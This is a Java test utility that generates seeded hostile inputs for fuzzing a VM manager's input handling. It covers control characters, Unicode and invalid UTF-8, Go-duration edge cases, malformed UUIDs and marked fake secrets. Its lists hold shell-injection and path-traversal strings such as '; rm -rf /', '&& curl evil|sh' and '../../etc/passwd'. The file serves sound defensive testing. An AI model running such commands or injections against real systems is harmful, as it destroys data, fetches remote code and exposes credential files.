package io.cvmmanager.testing;

import io.vertx.core.buffer.Buffer;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.UUID;

/**
 * Values a hostile or broken client sends, drawn from one seeded {@link Random} so that a run is reproducible from
 * its seed: texts of every length up to a bound and a little past it, with control characters, shell
 * metacharacters, path traversal, non-ASCII digits and other Unicode; Go-duration edge cases; VM ids; certificate
 * and key bytes; invalid UTF-8 byte sequences. Texts are whole code points (no lone surrogate), so their UTF-8 is
 * exactly what protobuf puts on the wire.
 */
public final class HostileValues {
  /** Put into every secret this generator makes, so that a test can look for it in log output. */
  public static final String SECRET_MARKER = "S3CR3T";

  private static final List<String> CONTROL = List.of("\u0000", "\n", "\r", "\r\n", "\t", "\u001b[31m", "\u0007",
      "\u007f", "\u001f", "\u000b", "\f");
  private static final List<String> SHELL = List.of(";", "|", "&", "$", "(", ")", "`", "'", "\"", "<", ">", "*", "?",
      "!", "{", "}", "[", "]", "\\", "~", "#", "$(reboot)", "`id`", "; rm -rf /", "&& curl evil|sh", "${IFS}",
      "'; touch /tmp/pwned; '", "\"$HOME\"", "$((1<<63))", "%s%n", "-- --help");
  private static final List<String> PATHS = List.of("../../etc/passwd", "/etc/shadow", "..", "../", "/",
      "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "....//....//", "/proc/self/environ", "file:///etc/passwd",
      "vms/../../", "./.", "~root", "/dev/zero", "con");
  private static final List<String> UNICODE = List.of("\u0661\u0662\u0663", "\uff15", "\u07c0", "\u0966",
      "\u202e", "\ufeff", "\u200b", "\u00e9", "e\u0301", "\u2028", "\u2029", "\u00a0", "\ud83d\ude00",
      "\u4e2d\u6587", "\u00b5", "\u03bc", "\ufffd", "\u0130", "\u212a", "\uffff");
  private static final List<String> PLAIN = List.of("info", "debug", "error", "https://kbs.example:8080",
      "localhost:7001", "us-east-1", "AKIAIOSFODNN7EXAMPLE", "http://169.254.169.254/latest", "a", "0", "-1",
      "true", "null", "%00", "<script>", "kbs://host:8080");
  /** Go-duration edge cases: bounds of int64 nanoseconds, fractions, units, signs, zeros, near-misses. */
  private static final List<String> DURATIONS = List.of("", "0", "+0", "-0", "00", "0s", "1ns", "1us", "1\u00b5s",
      "1\u03bcs", "1ms", "1s", "1m", "1h", "1.5h", ".5s", "5.s", ".s", ".", "1", "-1s", "+1h", "--1s", "+-1s",
      "2562047h47m16.854775807s", "2562047h47m16.854775808s", "2562048h", "9223372036854775807ns",
      "9223372036854775808ns", "18446744073709551616ns", "99999999999999999999h", "1e3s", "1h-1m", "1 h", " 1h",
      "1h ", "1H", "1d", "1y", "1w", "\u0661h", "\uff11h", "0.000000001s", "0.0000000001s",
      "0." + "9".repeat(40) + "s", "1." + "0".repeat(50) + "1h", "1h1h1h1h1h1h", "3m0.5s", "1.h", "1..5s", "nan",
      "inf", "0x10s", "1_000s", "\u00001h", "1h\n", "1s;reboot", "-2562047h47m16.854775808s", "1.5\u00b5s",
      "1ns1us1ms1s1m1h");
  private static final List<String> UNITS = List.of("ns", "us", "\u00b5s", "ms", "s", "m", "h", "", "d", "S");
  /** Byte sequences that are not UTF-8: stray continuations, overlong forms, surrogates, above U+10FFFF, cut. */
  private static final List<byte[]> NOT_UTF8 = List.of(new byte[] {(byte) 0x80}, new byte[] {(byte) 0xbf},
      new byte[] {(byte) 0xc0, (byte) 0xaf}, new byte[] {(byte) 0xc1, (byte) 0xbf},
      new byte[] {(byte) 0xe0, (byte) 0x80, (byte) 0xaf}, new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80},
      new byte[] {(byte) 0xed, (byte) 0xbf, (byte) 0xbf}, new byte[] {(byte) 0xf4, (byte) 0x90, (byte) 0x80,
          (byte) 0x80}, new byte[] {(byte) 0xf5, (byte) 0x80, (byte) 0x80, (byte) 0x80}, new byte[] {(byte) 0xff},
      new byte[] {(byte) 0xfe, (byte) 0xff}, new byte[] {(byte) 0xc3}, new byte[] {(byte) 0xe2, (byte) 0x82},
      new byte[] {(byte) 0xf0, (byte) 0x9f, (byte) 0x98}, new byte[] {(byte) 0xc3, (byte) 0x28});

  private final Random random;
  private int secrets;

  public HostileValues(long seed) {
    this.random = new Random(seed);
  }

  public Random random() {
    return random;
  }

  public boolean chance(int percent) {
    return random.nextInt(100) < percent;
  }

  public <T> T pick(List<T> from) {
    return from.get(random.nextInt(from.size()));
  }

  /** Some hostile text whose UTF-8 is at most a little over {@code maxBytes} (and sometimes exactly at it). */
  public String text(int maxBytes) {
    return switch (random.nextInt(9)) {
      case 0 -> "";
      case 1 -> pick(PLAIN);
      case 2 -> mix(CONTROL);
      case 3 -> mix(SHELL);
      case 4 -> mix(PATHS);
      case 5 -> mix(UNICODE);
      case 6 -> ofBytes(maxBytes - 1 + random.nextInt(3));
      case 7 -> ofBytes(random.nextInt(maxBytes + 64));
      default -> mix(List.of(pick(CONTROL), pick(SHELL), pick(PATHS), pick(UNICODE), pick(PLAIN)));
    };
  }

  /** A TTL: a Go-duration edge case, a random number-and-unit sequence, or any hostile text. */
  public String ttl(int maxBytes) {
    return switch (random.nextInt(4)) {
      case 0, 1 -> pick(DURATIONS);
      case 2 -> durationTerms();
      default -> text(maxBytes);
    };
  }

  /** A VM id: hostile text, or shapes of UUIDs that are no VM's (case, braces, URN prefix, cut, padded). */
  public String id(int maxBytes) {
    String uuid = UUID.randomUUID().toString();
    return switch (random.nextInt(6)) {
      case 0 -> uuid;
      case 1 -> pick(List.of(uuid.toUpperCase(), "{" + uuid + "}", "urn:uuid:" + uuid, uuid.substring(0, 35),
          " " + uuid, uuid + "\n", uuid.replace('-', '\u2010'), "../" + uuid, uuid + "/../../state.json"));
      default -> text(maxBytes);
    };
  }

  /** A secret (AWS secret key, certs token) carrying {@link #SECRET_MARKER}, with hostile text around it. */
  public String secret(int maxBytes) {
    String secret = SECRET_MARKER + "-" + (secrets++) + "-" + Long.toHexString(random.nextLong());
    String around = chance(50) ? "" : text(Math.max(0, maxBytes - secret.length()));
    String text = random.nextBoolean() ? secret + around : around + secret;
    return text.getBytes(StandardCharsets.UTF_8).length <= maxBytes + 64 ? text : secret;
  }

  /** Certificate or key bytes: empty, PEM-looking with the secret marker, random binary, or large. */
  public byte[] bytes(int maxBytes) {
    return switch (random.nextInt(5)) {
      case 0 -> new byte[0];
      case 1 -> ("-----BEGIN PRIVATE KEY-----\n" + secret(64) + "\n-----END PRIVATE KEY-----\n")
          .getBytes(StandardCharsets.UTF_8);
      case 2 -> randomBytes(random.nextInt(64));
      default -> randomBytes(random.nextInt(maxBytes + 1));
    };
  }

  /** A byte sequence that is not valid UTF-8, alone or inside valid text. */
  public byte[] notUtf8() {
    byte[] bad = pick(NOT_UTF8);
    byte[] before = (random.nextBoolean() ? "" : pick(PLAIN)).getBytes(StandardCharsets.UTF_8);
    byte[] after = (random.nextBoolean() ? "" : pick(PLAIN)).getBytes(StandardCharsets.UTF_8);
    return Buffer.buffer().appendBytes(before).appendBytes(bad).appendBytes(after).getBytes();
  }

  public byte[] randomBytes(int length) {
    byte[] bytes = new byte[length];
    random.nextBytes(bytes);
    return bytes;
  }

  /** One to four hostile pieces joined, sometimes around a plain value. */
  private String mix(List<String> pieces) {
    StringBuilder text = new StringBuilder(random.nextBoolean() ? pick(PLAIN) : "");
    int count = 1 + random.nextInt(4);
    for (int i = 0; i < count; i++) {
      text.append(pick(pieces));
    }
    return text.toString();
  }

  /** Text of exactly {@code length} UTF-8 bytes, in one-, two- or three-byte characters (a multiple-byte tail pads). */
  private String ofBytes(int length) {
    String unit = pick(List.of("9", "a", "\u00e9", "\u20ac", "/"));
    int unitBytes = unit.getBytes(StandardCharsets.UTF_8).length;
    return unit.repeat(length / unitBytes) + "x".repeat(length % unitBytes);
  }

  private String durationTerms() {
    StringBuilder text = new StringBuilder(pick(List.of("", "", "-", "+")));
    int terms = 1 + random.nextInt(4);
    for (int i = 0; i < terms; i++) {
      text.append(random.nextInt(5) == 0 ? Long.toUnsignedString(random.nextLong()) : random.nextInt(100_000));
      if (random.nextInt(4) == 0) {
        text.append('.').append(random.nextInt(1_000_000));
      }
      text.append(pick(UNITS));
    }
    return text.toString();
  }
}
